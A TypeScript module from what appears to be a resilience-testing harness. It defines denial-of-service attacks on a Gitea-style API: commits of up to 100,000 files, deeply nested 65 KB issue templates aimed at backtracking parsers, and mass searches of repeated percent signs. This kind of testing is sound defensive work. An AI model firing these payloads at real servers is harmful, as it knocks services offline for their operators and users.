import { requireApi, tokenHeaders } from '../api.ts'
import { getter } from '../endpoints.ts'
import { post, type Attack, type Stage } from './attack.ts'

const base64 = (text: string): string => Buffer.from(text).toString('base64')

const write = (name: string, files: number): Attack => ({
  name,
  who: 'any account',
  requests: (stage) => [
    post(stage, `/repos/${stage.repo}/contents`, {
      token: stage.target.token,
      body: JSON.stringify({
        message: 'many',
        files: Array.from({ length: files }, (_, i) => ({
          operation: 'create',
          path: `many-${files}/${i % 100}/f${i}.txt`,
          content: base64(`${i}\n`),
        })),
      }),
    }),
  ],
})

const TEMPLATES = 12
const TEMPLATE_BYTES = 65_000

/** Nested so that a reader which backtracks reads each bracket many times. */
const template = (i: number): string => `name: t${i}\nabout: a\nbody: ${'[{a: '.repeat(TEMPLATE_BYTES / 5)}`

async function addTemplates({ target, repo }: Stage): Promise<void> {
  await requireApi(target.url, {
    method: 'POST',
    path: `/repos/${repo}/contents`,
    headers: tokenHeaders(target),
    body: {
      message: 'templates',
      files: Array.from({ length: TEMPLATES }, (_, i) => ({
        operation: 'create',
        path: `.gitea/issue_template/t${i}.yaml`,
        content: base64(template(i)),
      })),
    },
  })
}

export const REPOSITORY_ATTACKS: readonly Attack[] = [
  write('1,000 files in one commit', 1_000),
  write('4,000 files in one commit', 4_000),
  write('100,000 files in one commit', 100_000),
  {
    name: '12 issue templates of 65 KB',
    who: 'any account',
    prepare: addTemplates,
    requests: ({ target, repo }) => [getter(target)(`/repos/${repo}/issue_templates`)()],
  },
  {
    name: '50 searches with 500 signs of %',
    who: 'anonymous',
    requests: ({ target }) =>
      Array.from({ length: 50 }, () => getter(target)(`/repos/search?q=${'%25'.repeat(500)}`, {})()),
  },
]
